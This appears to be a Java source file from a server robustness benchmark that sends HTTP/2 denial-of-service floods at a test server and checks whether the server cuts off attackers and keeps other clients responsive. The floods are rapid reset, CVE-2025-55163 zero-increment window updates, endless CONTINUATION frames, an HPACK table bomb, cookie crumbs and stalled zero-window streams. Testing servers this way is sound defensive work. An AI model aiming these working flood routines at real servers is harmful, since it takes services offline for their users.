package io.weft.bench.robustness;

import static io.weft.bench.robustness.Http2Frames.END_HEADERS;
import static io.weft.bench.robustness.Http2Frames.END_STREAM;

import io.weft.bench.robustness.Attack.Result;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;

/// Floods over HTTP/2, each of which a real server fell to. An attacker floods as fast as one core
/// lets it, and comes again when it is cut off.
final class Http2Floods {
    private static final int CANCEL = 8;
    private static final int CRUMBS = 2000;
    private static final int BOMB = 4000;
    private static final int STALLED = 100;
    private static final int FIRST = 50;
    private static final int STALL_MILLIS = 60_000;

    private Http2Floods() {}

    static List<Attack> all() {
        List<Attack> attacks = new ArrayList<>();
        attacks.add(flood("rapid reset", Http2Floods::rapidReset));
        attacks.add(flood("resets that the server is made to send", Http2Floods::madeYouReset));
        attacks.add(flood("CONTINUATION without end", Http2Floods::continuation));
        attacks.add(flood("settings", (_, out) -> out.frame(Http2Frames.SETTINGS, 0, 0)));
        attacks.add(flood("pings", (_, out) -> out.frame(Http2Frames.PING, 0, 0, new byte[8])));
        attacks.add(flood("empty DATA", Http2Floods::emptyData));
        attacks.add(flood("priorities", Http2Floods::priorities));
        attacks.add(
                flood("window updates", (_, out) -> out.number(Http2Frames.WINDOW_UPDATE, 0, 1)));
        attacks.add(flood("unknown frames", (_, out) -> out.frame(0xfa, 0, 0)));
        attacks.add(flood("fields from the dynamic table", Http2Floods::bomb));
        attacks.add(flood("cookie crumbs", Http2Floods::crumbs));
        attacks.add(
                new Attack(
                        "HTTP/2: streams whose window is closed",
                        "closed after 30 s, by 5; at most 262,144 B of memory a connection",
                        "HTTP/2 Bomb: 32 GB in less than 45 s",
                        Http2Floods::stalled));
        return attacks;
    }

    private static Attack flood(String name, Flooder.Flood flood) {
        return new Attack(
                "HTTP/2: " + name,
                "each connection is cut off, within 100 ms of GOAWAY; p99 of others at most"
                        + " doubles; at most four octets for one",
                "Netty: limits for three of twelve",
                (victim, _) -> measure(victim, flood));
    }

    private static Result measure(Victim victim, Flooder.Flood flood)
            throws IOException, InterruptedException {
        long calm = PatientClient.p99(victim);
        return victim.warm(() -> measure(victim, flood, calm));
    }

    private static Result measure(Victim victim, Flooder.Flood flood, long calm)
            throws IOException {
        Flooder flooder;
        long disturbed;
        try (PatientClient neighbour = new PatientClient(victim, 0)) {
            flooder = new Flooder(victim, flood, neighbour);
            flooder.run();
            disturbed = neighbour.p99();
        }
        double factor = (double) disturbed / calm;
        return new Result(
                String.format(
                        Locale.ROOT,
                        "%s; p99 %d to %d us, x %.2f",
                        flooder,
                        TimeUnit.NANOSECONDS.toMicros(calm),
                        TimeUnit.NANOSECONDS.toMicros(disturbed),
                        factor),
                flooder.isCutOff() && factor <= 2);
    }

    private static int stream(int i) {
        return 2 * i + 1;
    }

    private static void rapidReset(int i, Http2Frames out) {
        out.frame(Http2Frames.HEADERS, END_HEADERS | END_STREAM, stream(i), Http2Frames.GET)
                .number(Http2Frames.RST_STREAM, stream(i), CANCEL);
    }

    /// CVE-2025-55163: a window that grows by nothing is an error of the stream.
    private static void madeYouReset(int i, Http2Frames out) {
        out.frame(Http2Frames.HEADERS, END_HEADERS, stream(i), Http2Frames.GET)
                .number(Http2Frames.WINDOW_UPDATE, stream(i), 0);
    }

    private static void continuation(int i, Http2Frames out) {
        if (i == 0) {
            out.frame(Http2Frames.HEADERS, END_STREAM, 1, Http2Frames.GET);
        }
        out.frame(Http2Frames.CONTINUATION, 0, 1);
    }

    private static void emptyData(int i, Http2Frames out) {
        if (i == 0) {
            out.frame(Http2Frames.HEADERS, END_HEADERS, 1, Http2Frames.GET);
        }
        out.frame(Http2Frames.DATA, 0, 1);
    }

    private static void priorities(int i, Http2Frames out) {
        out.frame(Http2Frames.PRIORITY, 0, stream(i), new byte[] {0, 0, 0, 0, 16});
    }

    /// A field of 4,000 octets enters the table once; one octet stands for it from then on.
    private static void bomb(int i, Http2Frames out) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(Http2Frames.GET);
        if (i == 0) {
            block.writeBytes(new byte[] {0x40, 1, 'a', 0x7f});
            block.write(((BOMB - 0x7f) & 0x7f) | 0x80);
            block.write((BOMB - 0x7f) >> 7);
            byte[] value = new byte[BOMB];
            Arrays.fill(value, (byte) 'v');
            block.writeBytes(value);
        } else {
            byte[] indexed = new byte[BOMB];
            Arrays.fill(indexed, (byte) (0x80 | 62));
            block.writeBytes(indexed);
        }
        out.frame(Http2Frames.HEADERS, END_HEADERS | END_STREAM, stream(i), block.toByteArray());
    }

    private static void crumbs(int i, Http2Frames out) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(Http2Frames.GET);
        for (int crumb = 0; crumb < CRUMBS; crumb++) {
            block.writeBytes(new byte[] {0x0f, 32 - 15, 0}); // cookie, not indexed, empty
        }
        out.frame(Http2Frames.HEADERS, END_HEADERS | END_STREAM, stream(i), block.toByteArray());
    }

    /// Requests whose answers have no window to come through.
    private static Result stalled(Victim victim, int scale)
            throws IOException, InterruptedException {
        List<Socket> clients = new ArrayList<>();
        try {
            stall(victim, FIRST, clients); // these pay for what the attack runs
            TimeUnit.SECONDS.sleep(1);
            long before = victim.residentBytes();
            int count = scale * 10;
            stall(victim, count, clients);
            long begin = System.nanoTime();
            TimeUnit.SECONDS.sleep(3);
            long each = Math.max(0, victim.residentBytes() - before) / count;
            boolean all = true;
            for (Socket client : clients) {
                all &= isClosedByServer(client);
            }
            double seconds = (System.nanoTime() - begin) / 1e9;
            return new Result(
                    String.format(
                            Locale.ROOT,
                            "%s closed after %.1f s, %,d B each",
                            all ? "all" : "not all",
                            seconds,
                            each),
                    all && seconds <= 35 && each <= 256 << 10);
        } finally {
            for (Socket client : clients) {
                client.close();
            }
        }
    }

    /// Adds connections with [#STALLED] requests each.
    private static void stall(Victim victim, int count, List<Socket> clients) throws IOException {
        byte[] noWindow = {0, 4, 0, 0, 0, 0};
        for (int i = 0; i < count; i++) {
            Http2Frames frames = new Http2Frames().preface(noWindow);
            for (int s = 0; s < STALLED; s++) {
                frames.frame(
                        Http2Frames.HEADERS, END_HEADERS | END_STREAM, stream(s), Http2Frames.GET);
            }
            Socket client = victim.connect().socket();
            clients.add(client);
            client.setSoTimeout(STALL_MILLIS);
            client.getOutputStream().write(frames.take());
        }
    }

    private static boolean isClosedByServer(Socket client) {
        try {
            client.getInputStream().transferTo(OutputStream.nullOutputStream());
            return true;
        } catch (SocketTimeoutException _) {
            return false;
        } catch (IOException _) {
            return true; // a reset
        }
    }
}
